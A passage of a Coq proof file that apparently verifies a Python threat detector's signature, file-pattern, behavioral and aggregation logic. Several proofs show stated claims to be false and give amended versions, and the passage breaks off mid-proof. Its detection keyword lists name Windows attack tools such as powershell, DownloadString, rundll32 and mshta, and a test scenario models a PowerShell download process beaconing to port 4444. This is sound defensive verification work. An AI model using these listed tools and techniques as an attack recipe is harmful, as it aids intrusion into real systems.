Lemma rounded_verdict_of_slots w threats types slots outcome :
  Rounded.get (RoundedSpec.verdict_of w threats types slots outcome) "module_results"
  = Some (Rounded.Obj (VDict slots)).
Proof. destruct outcome as [[? ?]|?]; reflexivity. Qed.

Lemma rounded_verdict_of_threats w threats types slots outcome :
  Rounded.get (RoundedSpec.verdict_of w threats types slots outcome) "threats_detected"
  = Some (Rounded.Obj (VList threats)).
Proof. destruct outcome as [[? ?]|?]; reflexivity. Qed.

Lemma rounded_module_slot_detect self w data m :
  RoundedSpec.module_slot (Rounded.detect_threats self w data) (module_name m)
  = if applicable m data
    then Some (stored_slot (Rounded.blocks_of (Rounded.detectors self)) w data m)
    else None.
Proof.
  destruct (rounded_detect_threats_verdict self w data) as (types & ->).
  unfold RoundedSpec.module_slot. rewrite rounded_verdict_of_slots.
  apply final_slots_get.
Qed.

(** A module whose stored result is an error marker leaves the totals as
    they are. *)
Lemma rounded_step_error slots name weight totals e :
  dict_get slots name = Some (error_result e) ->
  Rounded.ensemble_step [("module_results", VDict slots)] totals (name, weight)
  = Ok totals.
Proof.
  intros H. unfold Rounded.ensemble_step. destruct totals as [risk conf].
  change (dict_item [("module_results", VDict slots)] "module_results")
    with (Ok (VDict slots)).
  cbv [bind py_get dict_get_default]. rewrite H. reflexivity.
Qed.

Lemma rounded_totals_without slots name e weights :
  dict_get slots name = Some (error_result e) ->
  RoundedSpec.ensemble_totals
    (filter (fun item => negb (String.eqb (fst item) name)) weights) slots
  = RoundedSpec.ensemble_totals weights slots.
Proof.
  intros H. unfold RoundedSpec.ensemble_totals.
  generalize (Binary64.of_Q 0.0, Binary64.of_Q 0.0) as totals.
  induction weights as [|[n wt] weights IH]; intros totals; [reflexivity|].
  simpl filter. destruct (String.eqb n name) eqn:E; simpl negb; cbv iota.
  - apply String.eqb_eq in E. subst n. simpl foldM.
    rewrite (rounded_step_error _ _ _ _ _ H). simpl bind. apply IH.
  - simpl foldM. destruct (Rounded.ensemble_step _ totals (n, wt)); simpl bind; auto.
Qed.

Lemma rounded_verdict_aggregated w threats types slots weights :
  RoundedSpec.module_results slots = true ->
  RoundedSpec.aggregated
    (RoundedSpec.verdict_of w threats types slots
                            (RoundedSpec.ensemble_totals weights slots))
    (RoundedSpec.totals weights slots).
Proof.
  intros Hwf. rewrite (rounded_totals_spec _ _ Hwf).
  destruct (RoundedSpec.totals _ _) as [risk conf].
  apply rounded_aggregated_intro; reflexivity.
Qed.

(** C1. If the call to one applicable module raises, the fault is stored
    as an error marker under that module's name and the module adds no
    threat record.  Every other applicable module still runs: its result
    is stored when its call returns, what is stored for it does not
    depend on the faulting detector, and the threat records of the
    verdict are those of the modules, in order.  The faulted module adds
    nothing to the weighted totals: the verdict is the one obtained with
    that module's weight removed, and its risk score, confidence and
    threat level report the totals accumulated from the other weighted
    modules. *)
Theorem faulting_module_is_isolated :
  forall (self : Rounded.EnhancedThreatDetector) (w : World) (data : dict)
         (m : module) (e : exn),
    applicable m data = true ->
    RoundedSpec.invoke self w data m = Raise e ->
    let verdict := Rounded.detect_threats self w data in
    let others := RoundedSpec.without_weight (module_name m) self in
    RoundedSpec.module_slot verdict (module_name m) = Some (error_result e)
    /\ RoundedSpec.records self w data m = []
    /\ (forall m' r,
          applicable m' data = true ->
          RoundedSpec.invoke self w data m' = Ok r ->
          post_check m' r = Ok tt ->
          RoundedSpec.module_slot verdict (module_name m') = Some (VDict r))
    /\ (forall self' m',
          m' <> m ->
          RoundedSpec.invoke self' w data m' = RoundedSpec.invoke self w data m' ->
          RoundedSpec.module_slot (Rounded.detect_threats self' w data) (module_name m')
          = RoundedSpec.module_slot verdict (module_name m'))
    /\ Rounded.get verdict "threats_detected"
       = Some (Rounded.Obj
                 (VList (flat_map (RoundedSpec.records self w data) all_modules)))
    /\ Rounded.detect_threats others w data = verdict
    /\ (forall slots,
          Rounded.get verdict "module_results" = Some (Rounded.Obj (VDict slots)) ->
          RoundedSpec.module_results slots = true ->
          RoundedSpec.aggregated
            verdict (RoundedSpec.totals (Rounded.detection_weights others) slots)).
Proof.
  intros self w data m e Happ Hraise verdict others. subst verdict others.
  unfold RoundedSpec.invoke in *.
  set (blocks := Rounded.blocks_of (Rounded.detectors self)) in *.
  assert (Hslot : dict_get (final_slots blocks w data) (module_name m)
                  = Some (error_result e)).
  { rewrite final_slots_get, Happ. unfold stored_slot. now rewrite Hraise. }
  split; [|split; [|split; [|split; [|split; [|split]]]]].
  - rewrite rounded_module_slot_detect, Happ. fold blocks.
    unfold stored_slot. now rewrite Hraise.
  - unfold RoundedSpec.records, module_records. fold blocks.
    now rewrite Happ, Hraise.
  - intros m' r Happ' Hok Hpost.
    rewrite rounded_module_slot_detect, Happ'. fold blocks.
    unfold stored_slot. now rewrite Hok, Hpost.
  - intros self' m' _ Hsame.
    rewrite !rounded_module_slot_detect. fold blocks.
    unfold stored_slot. now rewrite Hsame.
  - destruct (rounded_detect_threats_verdict self w data) as (types & ->).
    apply rounded_verdict_of_threats.
  - unfold Rounded.detect_threats. simpl Rounded.detectors. fold blocks.
    destruct (run_modules_results blocks w data) as (threats & types & ->).
    cbv [try_except]. rewrite !rounded_decision_verdict.
    simpl Rounded.detection_weights.
    destruct (run_modules_results blocks w data) as (threats' & types' & H').
    rewrite (rounded_totals_without _ _ _ _ Hslot). reflexivity.
  - intros slots Hslots Hwf.
    destruct (rounded_detect_threats_verdict self w data) as (types & E).
    fold blocks in E. rewrite E in *. clear E.
    rewrite rounded_verdict_of_slots in Hslots. injection Hslots as <-.
    simpl Rounded.detection_weights.
    rewrite <- (rounded_totals_without _ _ _ (Rounded.detection_weights self) Hslot).
    apply rounded_verdict_aggregated. exact Hwf.
Qed.

(** ** No input, no finding *)




(** ** Weight update *)






(** X31. An int that no float can hold, met by a float, voids the
    update: for the weight map {signature: 10**400, behavioral: 0.5} the
    sum raises OverflowError inside the try, and the stored weights stay
    as they were, whatever they were. *)
Theorem update_detection_weights_keeps_on_overflow :
  forall self : Rounded.EnhancedThreatDetector,
    let new_weights := RoundedSpec.weight_map oversized_weights in
    Rounded.sum (map snd new_weights)
    = Raise (OverflowError "int too large to convert to float")
    /\ Rounded.update_detection_weights self new_weights = self.
Proof.
  intros self new_weights.
  assert (H : Rounded.sum (map snd new_weights)
              = Raise (OverflowError "int too large to convert to float"))
    by (vm_compute; reflexivity).
  split; [exact H|].
  unfold Rounded.update_detection_weights. rewrite H. reflexivity.
Qed.

(** A map that holds a value that is not a number cannot be summed. *)
Lemma non_numeric_not_summable (W : dict) (k : string) (v : value) :
  In (k, v) W -> Spec.is_number v = false ->
  exists e, sum_values (map snd W) = Raise e.
Proof.
  unfold sum_values. generalize 0 as start.
  induction W as [|[k' v'] W IH]; intros start Hin Hv; [contradiction|].
  simpl. destruct Hin as [[= -> ->]|Hin].
  - destruct v; try discriminate; simpl; eexists; reflexivity.
  - destruct (as_number v') as [n|e]; simpl; [|eexists; reflexivity].
    apply IH; assumption.
Qed.


(** ** The signature detector *)

Section Signature.

Variables (sha256_hexdigest decode_utf8_ignore : string -> string).

Lemma count_matches_filter strs content :
  SignatureDetector.count_matches strs content
  = List.length (filter (fun s => contains (lower s) content) strs).
Proof.
  induction strs as [|s strs IH]; simpl; [reflexivity|].
  rewrite IH. destruct (contains (lower s) content); reflexivity.
Qed.

Lemma check_rules_yara w content :
  let hits :=
    List.length (filter (fun s => contains (lower s) content)
                        ["cmd.exe"; "powershell"; "DownloadString"]) in
  SignatureDetector.check_rules w SignatureDetector.yara_rules content
  = if Nat.leb 2 hits then
      Some [ ("detected", VBool true);
             ("threat_type", VStr "YARA: suspicious_strings");
             ("confidence", VNum 0.8);
             ("method", VStr "yara");
             ("timestamp", VStr (now_isoformat w));
             ("details", VDict [ ("rule", VStr "suspicious_strings");
                                 ("matches", VNum (Num.of_nat hits)) ]) ]
    else None.
Proof.
  intros hits. unfold SignatureDetector.yara_rules.
  cbn [SignatureDetector.check_rules SignatureDetector.strings].
  rewrite count_matches_filter. fold hits.
  destruct (Nat.leb 2 hits); reflexivity.
Qed.

Lemma detect_threats_missing w path :
  fs w path = None ->
  SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path
  = [ ("detected", VBool false);
      ("threat_type", VStr "Unknown");
      ("confidence", VNum 0.0);
      ("method", VStr "signature");
      ("timestamp", VStr (now_isoformat w));
      ("error", VStr "File not found") ].
Proof.
  intros H. unfold SignatureDetector.detect_threats, path_exists.
  rewrite H. reflexivity.
Qed.

Lemma detect_threats_known w path raw label :
  fs w path = Some (RegularFile raw) ->
  SignatureDetector.lookup (sha256_hexdigest raw) SignatureDetector.signature_database
  = Some label ->
  SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path
  = [ ("detected", VBool true);
      ("threat_type", VStr label);
      ("confidence", VNum 0.95);
      ("method", VStr "signature");
      ("timestamp", VStr (now_isoformat w));
      ("details", VDict [ ("hash", VStr (sha256_hexdigest raw));
                          ("signature_match", VBool true) ]) ].
Proof.
  intros H Hl.
  unfold SignatureDetector.detect_threats, path_exists,
    SignatureDetector._calculate_hash, read_bytes.
  rewrite H. cbv [bind try_except negb]. rewrite Hl. reflexivity.
Qed.

Lemma detect_threats_unknown w path raw :
  fs w path = Some (RegularFile raw) ->
  SignatureDetector.lookup (sha256_hexdigest raw) SignatureDetector.signature_database
  = None ->
  let hits :=
    List.length (filter (fun s => contains (lower s) (lower (decode_utf8_ignore raw)))
                        ["cmd.exe"; "powershell"; "DownloadString"]) in
  SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path
  = if Nat.leb 2 hits then
      [ ("detected", VBool true);
        ("threat_type", VStr "YARA: suspicious_strings");
        ("confidence", VNum 0.8);
        ("method", VStr "yara");
        ("timestamp", VStr (now_isoformat w));
        ("details", VDict [ ("rule", VStr "suspicious_strings");
                            ("matches", VNum (Num.of_nat hits)) ]) ]
    else
      [ ("detected", VBool false);
        ("threat_type", VStr "Clean");
        ("confidence", VNum 0.0);
        ("method", VStr "signature");
        ("timestamp", VStr (now_isoformat w));
        ("details", VDict [ ("hash", VStr (sha256_hexdigest raw));
                            ("signature_match", VBool false) ]) ].
Proof.
  intros H Hl hits.
  unfold SignatureDetector.detect_threats, path_exists,
    SignatureDetector._calculate_hash, SignatureDetector._check_yara_rules, read_bytes.
  rewrite H. cbv [bind try_except negb]. rewrite Hl, check_rules_yara. fold hits.
  destruct (Nat.leb 2 hits); reflexivity.
Qed.

Lemma detect_threats_unreadable w path size :
  fs w path = Some (Unreadable size) ->
  SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path
  = [ ("detected", VBool false);
      ("threat_type", VStr "Clean");
      ("confidence", VNum 0.0);
      ("method", VStr "signature");
      ("timestamp", VStr (now_isoformat w));
      ("details", VDict [ ("hash", VStr "error_hash");
                          ("signature_match", VBool false) ]) ].
Proof.
  intros H.
  unfold SignatureDetector.detect_threats, path_exists,
    SignatureDetector._calculate_hash, SignatureDetector._check_yara_rules, read_bytes.
  rewrite H. reflexivity.
Qed.

End Signature.

(** The claim C6 says that a rule match is reported with method
    "rule-match"; the detector reports method "yara".  On a file with
    the text [cmd.exe /c powershell], whose digest is not in the table: *)
Lemma signature_rule_match_method_is_yara :
  let result :=
    SignatureDetector.detect_threats dropper_digest ascii_text
                                     dropper_world "/tmp/dropper.txt" in
  dict_get result "detected" = Some (VBool true)
  /\ dict_get result "confidence" = Some (VNum 0.8)
  /\ dict_get result "method" = Some (VStr "yara")
  /\ dict_get result "method" <> Some (VStr "rule-match").
Proof. vm_compute. repeat split; discriminate. Qed.

(** C6, amended.  A missing file gives an error-shaped result, not an
    exception.  For a file that can be read: when its content hash is in
    the signature table, detected=true with confidence 0.95 and the label
    of the table; when it is not and at least 2 of "cmd.exe",
    "powershell", "DownloadString" occur in the decoded text, compared
    without regard to case, detected=true with confidence 0.8, method
    "yara" and threat type "YARA: suspicious_strings"; otherwise
    detected=false with confidence 0.0.  A file that exists and cannot be
    read has neither a hash in the table nor a text: detected=false with
    confidence 0.0. *)
Theorem signature_detector_cases :
  forall (sha256_hexdigest decode_utf8_ignore : string -> string)
         (w : World) (path : string),
    let result :=
      SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path in
    (fs w path = None ->
       dict_get result "detected" = Some (VBool false)
       /\ dict_get result "confidence" = Some (VNum 0.0)
       /\ dict_get result "error" = Some (VStr "File not found"))
    /\ (forall raw,
          fs w path = Some (RegularFile raw) ->
          let known :=
            SignatureDetector.lookup (sha256_hexdigest raw)
                                     SignatureDetector.signature_database in
          let hits :=
            List.length
              (filter (fun s => contains (lower s) (lower (decode_utf8_ignore raw)))
                      ["cmd.exe"; "powershell"; "DownloadString"]) in
          (forall label,
             known = Some label ->
             dict_get result "detected" = Some (VBool true)
             /\ dict_get result "confidence" = Some (VNum 0.95)
             /\ dict_get result "threat_type" = Some (VStr label))
          /\ (known = None -> (2 <= hits)%nat ->
              dict_get result "detected" = Some (VBool true)
              /\ dict_get result "confidence" = Some (VNum 0.8)
              /\ dict_get result "method" = Some (VStr "yara")
              /\ dict_get result "threat_type" = Some (VStr "YARA: suspicious_strings"))
          /\ (known = None -> (hits < 2)%nat ->
              dict_get result "detected" = Some (VBool false)
              /\ dict_get result "confidence" = Some (VNum 0.0)))
    /\ (forall size,
          fs w path = Some (Unreadable size) ->
          dict_get result "detected" = Some (VBool false)
          /\ dict_get result "confidence" = Some (VNum 0.0)).
Proof.
  intros sha dec w path result. subst result. split; [|split].
  - intros H. rewrite (detect_threats_missing _ _ _ _ H). repeat split.
  - intros raw H known hits. repeat split.
    + rewrite (detect_threats_known _ _ _ _ _ _ H H0). reflexivity.
    + rewrite (detect_threats_known _ _ _ _ _ _ H H0). reflexivity.
    + rewrite (detect_threats_known _ _ _ _ _ _ H H0). reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H H0). fold hits.
      apply Nat.leb_le in H1. rewrite H1. reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H H0). fold hits.
      apply Nat.leb_le in H1. rewrite H1. reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H H0). fold hits.
      apply Nat.leb_le in H1. rewrite H1. reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H H0). fold hits.
      apply Nat.leb_le in H1. rewrite H1. reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H H0). fold hits.
      apply Nat.leb_gt in H1. rewrite H1. reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H H0). fold hits.
      apply Nat.leb_gt in H1. rewrite H1. reflexivity.
  - intros size H. rewrite (detect_threats_unreadable _ _ _ _ _ H). split; reflexivity.
Qed.

(** ** The file analyzer *)

Lemma find_patterns_filter patterns content :
  FileAnalyzer.find_patterns patterns content
  = filter (fun pattern => contains (lower pattern) content) patterns.
Proof.
  induction patterns as [|p patterns IH]; simpl; [reflexivity|].
  rewrite IH. reflexivity.
Qed.

(** C7. For an existing file that can be read as text, the threat score is
    the number of the 9 malicious patterns that occur (each lowercased, as
    the content is) in the lowercased content, over 9; the prediction is "malicious" with confidence
    min(0.9, 0.5 + score * 0.4) iff score > 0.3, "suspicious" with
    confidence 0.6 iff 0.1 < score <= 0.3, and "benign" with confidence
    0.8 otherwise. *)
Theorem file_analyzer_thresholds :
  forall (decode_utf8_ignore splitext_ext : string -> string)
         (w : World) (path raw : string),
    fs w path = Some (RegularFile raw) ->
    let result := FileAnalyzer.predict decode_utf8_ignore splitext_ext w path in
    let found :=
      filter (fun pattern => contains (lower pattern) (lower (decode_utf8_ignore raw)))
             [ "cmd.exe"; "powershell"; "DownloadString"; "Invoke-Expression";
               "regsvr32"; "rundll32"; "wscript"; "cscript"; "mshta" ] in
    let score := inject_Z (Z.of_nat (List.length found)) / 9 in
    (exists features,
        dict_get result "features" = Some (VDict features)
        /\ num_field features "threat_score" score)
    /\ (dict_get result "prediction" = Some (VStr "malicious") <-> 0.3 < score)
    /\ (dict_get result "prediction" = Some (VStr "suspicious")
        <-> 0.1 < score /\ score <= 0.3)
    /\ (dict_get result "prediction" = Some (VStr "benign") <-> score <= 0.1)
    /\ (0.3 < score -> num_field result "confidence" (Qmin 0.9 (0.5 + score * 0.4)))
    /\ (0.1 < score /\ score <= 0.3 -> num_field result "confidence" 0.6)
    /\ (score <= 0.1 -> num_field result "confidence" 0.8).
Proof.
  intros dec ext w path raw H result found score.
  set (s := Num.div (Num.of_nat (List.length found))
                    (Num.of_nat (List.length FileAnalyzer.malicious_patterns))).
  assert (Es : s == score) by (unfold s; rewrite div_eq; reflexivity).
  assert (E : exists prediction confidence threat_type features,
             result = [ ("prediction", VStr prediction);
                        ("confidence", VNum confidence);
                        ("threat_type", VStr threat_type);
                        ("timestamp", VStr (now_isoformat w));
                        ("features", VDict features) ]
             /\ num_field features "threat_score" score
             /\ (prediction, confidence)
                = if Num.gtb s 0.3
                  then ("malicious", Num.min 0.9 (Num.add 0.5 (Num.mul s 0.4)))
                  else if Num.gtb s 0.1 then ("suspicious", 0.6)
                       else ("benign", 0.8)).
  { subst result. unfold FileAnalyzer.predict, path_exists, getsize, read_bytes.
    rewrite H. cbv [bind try_except negb]. rewrite find_patterns_filter.
    change (filter (fun pattern => contains (lower pattern) (lower (dec raw)))
                   FileAnalyzer.malicious_patterns) with found.
    fold s.
    destruct (Num.gtb s 0.3); [|destruct (Num.gtb s 0.1)];
      eexists _, _, _, _; (split; [reflexivity|]);
      (split; [eexists; split; [reflexivity | exact Es] | reflexivity]). }
  destruct E as (prediction & confidence & threat_type & features & -> & Hf & Hp).
  split; [exists features; split; [reflexivity | exact Hf]|].
  simpl dict_get. unfold num_field. simpl dict_get.
  destruct (Num.gtb s 0.3) eqn:E3; [|destruct (Num.gtb s 0.1) eqn:E1];
    injection Hp as -> ->.
  - apply gtb_true in E3. rewrite Es in E3.
    repeat split; try discriminate; try (intros; lra); try (intros; reflexivity).
    intros _. eexists. split; [reflexivity|].
    apply min_eq_compat; [reflexivity|]. rewrite add_eq, mul_eq, Es. reflexivity.
  - apply gtb_false in E3. apply gtb_true in E1. rewrite Es in E3, E1.
    repeat split; try discriminate; try (intros; lra); try (intros; reflexivity).
    intros _. eexists. split; reflexivity.
  - apply gtb_false in E3. apply gtb_false in E1. rewrite Es in E3, E1.
    repeat split; try discriminate; try (intros; lra); try (intros; reflexivity).
    intros _. eexists. split; reflexivity.
Qed.

(** ** The behavioral analyzer *)

(** Every result of [analyze_behavior], the error-shaped one too, starts
    with the same five keys. *)
Lemma analyze_behavior_shape w data :
  exists threats types level score rest,
    BehavioralAnalyzer.analyze_behavior w data
    = ("threats_detected", VList threats)
        :: ("threat_types", VList types)
        :: ("threat_level", VStr level)
        :: ("overall_risk_score", VNum score)
        :: ("timestamp", VStr (now_isoformat w))
        :: rest.
Proof.
  unfold BehavioralAnalyzer.analyze_behavior.
  destruct (py_iter (dict_get_default data "processes" (VList []))) as [procs|e];
    [|repeat eexists].
  cbv [bind try_except].
  destruct (foldM BehavioralAnalyzer.process_step procs ([], 0.0)) as [[sp r1]|e];
    [|repeat eexists].
  destruct (foldM BehavioralAnalyzer.cmdline_step procs ([], r1)) as [[sc r2]|e];
    [|repeat eexists].
  destruct (py_iter (dict_get_default data "network_connections" (VList [])))
    as [conns|e]; [|repeat eexists].
  destruct (foldM BehavioralAnalyzer.connection_step conns ([], r2)) as [[sn r3]|e];
    repeat eexists.
Qed.

Lemma analyze_behavior_mergeable w data :
  merge_check (BehavioralAnalyzer.analyze_behavior w data) = Ok tt.
Proof.
  destruct (analyze_behavior_shape w data)
    as (threats & types & level & score & rest & ->).
  unfold merge_check. destruct threats; reflexivity.
Qed.

(** The claim C4 says that the behavioral result depends on the snapshot
    of the input bundle only.  With the same bundle, whose snapshot is
    empty, a machine that runs PowerShell gets a behavioral result with a
    finding, and another machine does not. *)
Lemma behavioral_result_follows_live_state :
  let coordinator := init behavioral_only in
  module_slot (detect_threats coordinator quiet_world empty_snapshot_bundle) "behavioral"
  <> module_slot (detect_threats coordinator busy_world empty_snapshot_bundle) "behavioral"
  /\ exists result,
       module_slot (detect_threats coordinator busy_world empty_snapshot_bundle)
                   "behavioral" = Some (VDict result)
       /\ dict_get result "threat_level" = Some (VStr "high")
       /\ dict_get result "overall_risk_score" = Some (VNum 8).
Proof.
  split.
  - vm_compute. discriminate.
  - eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Qed.

(** C4, amended.  When the input bundle has a system_data part and the
    behavioral module is the shipped analyzer, the behavioral result of
    the verdict is the analysis of the snapshot that the analyzer
    collects from the running system during the call; the content of
    system_data is not read, so in one environment any two bundles with a
    system_data part get the same behavioral result. *)
Theorem behavioral_result_from_collected_snapshot :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict),
    (forall w', behavioral_collect (detectors self) w'
                = Ok (BehavioralAnalyzer.collect_behavioral_data w')) ->
    (forall w' d, behavioral_analyze (detectors self) w' d
                  = Ok (BehavioralAnalyzer.analyze_behavior w' d)) ->
    dict_mem data "system_data" = true ->
    module_slot (detect_threats self w data) "behavioral"
    = Some (VDict (BehavioralAnalyzer.analyze_behavior
                     w (BehavioralAnalyzer.collect_behavioral_data w)))
    /\ forall data',
         dict_mem data' "system_data" = true ->
         module_slot (detect_threats self w data') "behavioral"
         = module_slot (detect_threats self w data) "behavioral".
Proof.
  intros self w data Hc Ha Hin.
  assert (E : forall d, dict_mem d "system_data" = true ->
              module_slot (detect_threats self w d) "behavioral"
              = Some (VDict (BehavioralAnalyzer.analyze_behavior
                               w (BehavioralAnalyzer.collect_behavioral_data w)))).
  { intros d Hd. change "behavioral" with (module_name Behavioral).
    rewrite (module_slot_detect self w d Behavioral).
    unfold applicable, stored_slot. simpl input_key. rewrite Hd.
    simpl invoke. rewrite Hc. simpl bind. rewrite Ha.
    simpl post_check. rewrite analyze_behavior_mergeable. reflexivity. }
  split; [apply E; exact Hin|].
  intros data' Hin'. rewrite (E data' Hin'), (E data Hin). reflexivity.
Qed.

(** On a machine where a PowerShell process runs a download command and
    holds one connection to port 4444 of an IPv4 host, the analyzer finds
    0.2 + 2 x 0.3 + 0.1 = 0.9 in the collected snapshot: threat level high
    and risk score 9. *)
Lemma analyze_behavior_ipv4_beacon :
  let w := beacon_world "203.0.113.7" in
  let result := BehavioralAnalyzer.analyze_behavior
                  w (BehavioralAnalyzer.collect_behavioral_data w) in
  dict_get result "threat_level" = Some (VStr "high")
  /\ dict_get result "overall_risk_score" = Some (VNum 9)
  /\ dict_mem result "error" = false.
Proof. vm_compute. repeat split. Qed.

(** C8 fails on the same machine when the remote host has an IPv6
    address.  The collected remote address is cut at its first colon, the
    piece after it is not a number, and the whole analysis is given up:
    threat level "error", risk score 0.0 and no threat record, where the
    claim has 0.9, "high" and 9.0. *)
Theorem analyze_behavior_ipv6_remote_address :
  let w := beacon_world "2001:db8::7" in
  let snapshot := BehavioralAnalyzer.collect_behavioral_data w in
  let result := BehavioralAnalyzer.analyze_behavior w snapshot in
  dict_get snapshot "network_connections"
  = Some (VList [ VDict [ ("local_address", VStr "10.0.0.5:50122");
                          ("remote_address", VStr "2001:db8::7:4444");
                          ("status", VStr "ESTABLISHED");
                          ("pid", VNum 4242) ] ])
  /\ dict_get result "threat_level" = Some (VStr "error")
  /\ dict_get result "overall_risk_score" = Some (VNum 0.0)
  /\ dict_get result "threats_detected" = Some (VList [])
  /\ dict_get result "error"
     = Some (VStr "invalid literal for int() with base 10: 'db8'").
Proof. vm_compute. repeat split. Qed.

(** ** Timestamps *)

Lemma signature_result_has_timestamp sha256_hexdigest decode_utf8_ignore w path :
  dict_mem (SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path)
           "timestamp" = true.
Proof.
  destruct (fs w path) as [[raw|size]|] eqn:H.
  - destruct (SignatureDetector.lookup (sha256_hexdigest raw)
                SignatureDetector.signature_database) as [label|] eqn:Hl.
    + rewrite (detect_threats_known _ _ _ _ _ _ H Hl). reflexivity.
    + rewrite (detect_threats_unknown _ _ _ _ _ H Hl).
      destruct (Nat.leb _ _); reflexivity.
  - rewrite (detect_threats_unreadable _ _ _ _ _ H). reflexivity.
  - rewrite (detect_threats_missing _ _ _ _ H). reflexivity.
Qed.

Lemma file_result_has_timestamp decode_utf8_ignore splitext_ext w path :
  dict_mem (FileAnalyzer.predict decode_utf8_ignore splitext_ext w path)
           "timestamp" = true.
Proof.
  unfold FileAnalyzer.predict, path_exists, getsize, read_bytes.
  destruct (fs w path) as [[raw|size]|]; cbv [bind try_except negb].
  - destruct (Num.gtb _ 0.3); [|destruct (Num.gtb _ 0.1)]; reflexivity.
  - destruct (_ && _); reflexivity.
  - reflexivity.
Qed.

Lemma behavioral_result_has_timestamp w data :
  dict_mem (BehavioralAnalyzer.analyze_behavior w data) "timestamp" = true.
Proof.
  destruct (analyze_behavior_shape w data)
    as (threats & types & level & score & rest & ->).
  reflexivity.
Qed.

(** Case analysis on the innermost call that may raise. *)
Ltac step_binds :=
  cbv [bind try_except];
  repeat match goal with
         | |- context [match ?c with Ok _ => _ | Raise _ => _ end] =>
             lazymatch c with
             | context [match _ with Ok _ => _ | Raise _ => _ end] => fail
             | context [match _ with pair _ _ => _ end] => fail
             | context [if _ then _ else _] => fail
             | _ => destruct c
             end
         | |- context [match ?p with pair _ _ => _ end] =>
             lazymatch p with
             | context [match _ with Ok _ => _ | Raise _ => _ end] => fail
             | context [if _ then _ else _] => fail
             | _ => destruct p
             end
         | |- context [if truthy ?v then _ else _] => destruct (truthy v)
         end.

Lemma encrypted_result_has_timestamp re_search w network_data :
  dict_mem (EncryptedThreatDetector.detect_encrypted_threats re_search w network_data)
           "timestamp" = true.
Proof.
  unfold EncryptedThreatDetector.detect_encrypted_threats.
  step_binds; reflexivity.
Qed.

Lemma social_engineering_result_has_timestamp w data :
  dict_mem (SocialEngineeringDetector.detect_social_engineering w data)
           "timestamp" = true.
Proof.
  unfold SocialEngineeringDetector.detect_social_engineering.
  step_binds; reflexivity.
Qed.

(** The claim C9 has a timestamp in every stored module result.  When the
    signature detector raises, the result stored for it holds the error
    text and nothing else. *)
Lemma coordinator_error_marker_has_no_timestamp :
  let verdict :=
    detect_threats (init faulty_signature) quiet_world
                   [("file_path", VStr "/tmp/sample.bin")] in
  module_slot verdict "signature" = Some (VDict [("error", VStr "boom")])
  /\ dict_mem [("error", VStr "boom")] "timestamp" = false.
Proof. split; reflexivity. Qed.

(** C9, amended.  Every result returned by one of the five detectors
    carries a timestamp, their own error-shaped results included; what is
    stored for a module in the verdict is the result its detector
    returned or the coordinator's own error marker, which holds the error
    text only and no timestamp. *)
Theorem module_results_timestamps :
  (forall sha256_hexdigest decode_utf8_ignore w path,
      dict_mem (SignatureDetector.detect_threats
                  sha256_hexdigest decode_utf8_ignore w path) "timestamp" = true)
  /\ (forall decode_utf8_ignore splitext_ext w path,
        dict_mem (FileAnalyzer.predict decode_utf8_ignore splitext_ext w path)
                 "timestamp" = true)
  /\ (forall w data,
        dict_mem (BehavioralAnalyzer.analyze_behavior w data) "timestamp" = true)
  /\ (forall re_search w network_data,
        dict_mem (EncryptedThreatDetector.detect_encrypted_threats
                    re_search w network_data) "timestamp" = true)
  /\ (forall w data,
        dict_mem (SocialEngineeringDetector.detect_social_engineering w data)
                 "timestamp" = true)
  /\ (forall self w data m stored,
        module_slot (detect_threats self w data) (module_name m) = Some stored ->
        (exists r, invoke self w data m = Ok r /\ stored = VDict r)
        \/ (exists e, stored = VDict [("error", VStr (str_exn e))]
                      /\ dict_mem [("error", VStr (str_exn e))] "timestamp" = false)).
Proof.
  split; [exact signature_result_has_timestamp|].
  split; [exact file_result_has_timestamp|].
  split; [exact behavioral_result_has_timestamp|].
  split; [exact encrypted_result_has_timestamp|].
  split; [exact social_engineering_result_has_timestamp|].
  intros self w data m stored H.
  rewrite module_slot_detect in H.
  destruct (applicable m data); [|discriminate].
  injection H as <-. unfold stored_slot.
  destruct (invoke self w data m) as [r|e].
  - destruct (post_check m r) as [[]|e].
    + left. exists r. split; reflexivity.
    + right. exists e. split; reflexivity.
  - right. exists e. split; reflexivity.
Qed.

(** ** The behavioral score on readable processes and IPv4 connections *)

Lemma of_nat_0 : Num.of_nat 0 == 0.
Proof. reflexivity. Qed.

Lemma of_nat_S n : Num.of_nat (S n) == Num.of_nat n + 1.
Proof.
  unfold Num.of_nat. rewrite Nat2Z.inj_succ, <- Z.add_1_r, inject_Z_plus.
  reflexivity.
Qed.

Lemma of_nat_add n m : Num.of_nat (n + m) == Num.of_nat n + Num.of_nat m.
Proof.
  unfold Num.of_nat. rewrite Nat2Z.inj_add, inject_Z_plus. reflexivity.
Qed.

Lemma mapM_as_str l : mapM as_str (map VStr l) = Ok l.
Proof.
  induction l as [|s l IH]; simpl; [reflexivity|]. rewrite IH. reflexivity.
Qed.

Lemma all_below_spec (f : Z -> bool) (bits : nat) (prefix z : Z) :
  BehaviorSpec.all_below bits prefix f = true ->
  (prefix * 2 ^ Z.of_nat bits <= z < (prefix + 1) * 2 ^ Z.of_nat bits)%Z ->
  f z = true.
Proof.
  revert prefix. induction bits as [|bits IH]; intros prefix H Hz.
  - simpl in H. change (2 ^ Z.of_nat 0)%Z with 1%Z in Hz.
    replace z with prefix by lia. exact H.
  - simpl in H. apply andb_true_iff in H. destruct H as [Hlo Hhi].
    rewrite Nat2Z.inj_succ, Z.pow_succ_r in Hz by lia.
    assert (Hpos : (0 < 2 ^ Z.of_nat bits)%Z) by (apply Z.pow_pos_nonneg; lia).
    destruct (Z_lt_le_dec z ((2 * prefix + 1) * 2 ^ Z.of_nat bits)) as [Hlt|Hge].
    + apply (IH (2 * prefix)%Z Hlo). nia.
    + apply (IH (2 * prefix + 1)%Z Hhi). nia.
